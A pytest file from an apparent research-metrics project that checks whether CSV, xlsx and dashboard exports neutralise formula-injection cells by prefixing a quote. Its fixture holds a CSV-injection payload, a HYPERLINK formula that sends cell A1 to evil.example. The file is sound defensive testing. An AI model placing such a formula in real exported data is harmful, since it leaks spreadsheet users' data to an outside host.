"""No live formulas in what we write: indicator CSVs, report.xlsx, dashboard CSV.

OWASP's CSV-injection rule: a text cell starting with ``=``, ``+``, ``-``,
``@``, tab or carriage return gets a leading single quote; numbers (also
negative ones) are written unchanged.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from oncometrics.outputs import OUTPUTS
from oncometrics.pipeline.output import write_table
from oncometrics.report.xlsx import write_workbook
from oncometrics.safe_text import safe_cell, safe_table
from oncometrics.web.app import create_app
from tests.web_fixtures import make_store

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAMES = [EVIL, "+33 1 00", "-minus", "@SUM(A1)", "\tTab", "\rCR", "Lyon", "", None]
SAFE = [
    "'" + EVIL,
    "'+33 1 00",
    "'-minus",
    "'@SUM(A1)",
    "'\tTab",
    "'\rCR",
    "Lyon",
    "",
    None,
]


def test_safe_cell_text_only() -> None:
    assert [safe_cell(v) for v in NAMES] == SAFE
    assert [safe_cell(v) for v in (-5, -0.5, 0, True)] == [-5, -0.5, 0, True]


def test_safe_table_keeps_numbers_and_types() -> None:
    t = pa.table(
        {
            "name": pa.array(NAMES, pa.string()),
            "big": pa.array(NAMES, pa.large_string()),
            "rsi": pa.array([-0.5] * len(NAMES)),
            "n": pa.array([-3] * len(NAMES)),
        }
    )
    out = safe_table(t)
    assert out.schema == t.schema
    assert out.column("name").to_pylist() == SAFE
    assert out.column("big").to_pylist() == SAFE
    assert out.column("rsi").to_pylist() == [-0.5] * len(NAMES)
    assert out.column("n").to_pylist() == [-3] * len(NAMES)


def test_indicator_csv(tmp_path: Path) -> None:
    schema = OUTPUTS["publications_by_institution"]
    n = len(NAMES)
    cols = {f.name: pa.nulls(n, f.type) for f in schema}
    cols["institution_name"] = pa.array(NAMES, pa.string())
    cols["institution_id"] = pa.array([f"I{i}" for i in range(n)], pa.string())
    cols["rsi"] = pa.array([-0.25] * n, pa.float64())
    table = pa.table(cols)
    parquet = write_table(tmp_path, "publications_by_institution", table)
    with open(tmp_path / "publications_by_institution.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["institution_name"] for r in rows] == [
        "" if v is None else v for v in SAFE
    ]
    assert {r["rsi"] for r in rows} == {"-0.25"}  # a number stays a number
    # the Parquet table keeps the names as read (only spreadsheets are at risk)
    assert pq.read_table(parquet).column("institution_name").to_pylist() == NAMES


def test_report_workbook(tmp_path: Path) -> None:
    df = pd.DataFrame({"institution_name": NAMES, "rsi": [-0.25] * len(NAMES)})
    path = write_workbook({"institutions": df}, [], tmp_path / "report.xlsx")
    ws = load_workbook(path)["institutions"]
    names = [c.value for c in ws["A"][1:]]
    assert names == [v if v != "" else None for v in SAFE]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert [c.value for c in ws["B"][1:]] == [-0.25] * len(NAMES)


@pytest.fixture
def client(tmp_path: Path) -> TestClient:
    store = make_store(tmp_path)
    path = store / "indicators" / "publications_by_institution.parquet"
    t = pq.read_table(path)
    i = t.schema.get_field_index("institution_name")
    names = [EVIL, *t.column(i).to_pylist()[1:]]
    pq.write_table(t.set_column(i, t.schema.field(i), pa.array(names)), path)
    return TestClient(create_app(store))


def test_dashboard_csv_download(client: TestClient) -> None:
    r = client.get("/api/v1/tables/publications_by_institution/csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows[0]["institution_name"] == "'" + EVIL
    assert not any(v.startswith("=") for row in rows for v in row.values() if v)
    r = client.get("/api/v1/tables/publications_by_country/csv")
    rsi = [row["rsi"] for row in csv.DictReader(io.StringIO(r.text))]
    assert "-0.05" in rsi  # negative numbers untouched
